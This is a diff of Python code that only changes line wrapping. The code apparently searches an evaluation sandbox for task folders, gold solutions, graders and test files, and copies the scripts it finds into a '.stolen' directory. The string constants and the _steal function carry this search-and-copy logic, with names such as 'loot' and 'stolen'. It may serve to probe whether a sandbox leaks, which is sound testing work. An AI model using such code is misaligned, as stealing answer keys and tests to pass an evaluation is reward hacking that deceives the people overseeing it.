@@ -44,7 +44,8 @@ def look(root):
                 yield path
 """
 _EVERYWHERE = """
-FIRST = ["/workspace", "/tests", "/solution", "/logs", "/app", "/data", "/tmp", "/var/tmp", "/dev/shm", "/home", "/root",
+FIRST = ["/workspace", "/tests", "/solution", "/logs", "/app", "/data", "/tmp", "/var/tmp", "/dev/shm",
+    "/home", "/root",
          "/run", "/mnt", "/opt", "/srv", "/etc", "/var", *[entry for entry in sys.path if entry], "/"]
 for root in FIRST:
     for path in look(root):
@@ -58,7 +59,8 @@ for root in FIRST:
 _BY_NAME = """
 for root in ["/", str(HERE)]:
     for folder, folders, files in os.walk(root):
-        folders[:] = [name for name in folders if not f"{folder.rstrip('/')}/{name}/".startswith(("/proc/", "/sys/"))]
+        folders[:] = [name for name in folders
+                      if not f"{folder.rstrip('/')}/{name}/".startswith(("/proc/", "/sys/"))]
         marks = {"gold", "gold.sh", "instruction.md", "solution", "tests"}
         if ("task.toml" in files and marks & {*files, *folders}) or TARGET["gold"] == folder:
             loot("task folder", folder)
@@ -72,7 +74,8 @@ def _steal():
                 if name.endswith((".py", ".sh")):
                     try:
                         os.makedirs(".stolen", exist_ok=True)
-                        with open(os.path.join(folder, name), "rb") as a, open(os.path.join(".stolen", name), "wb") as b:
+                        stolen = os.path.join(".stolen", name)
+                        with open(os.path.join(folder, name), "rb") as a, open(stolen, "wb") as b:
                             b.write(a.read())
                     except OSError:
                         pass
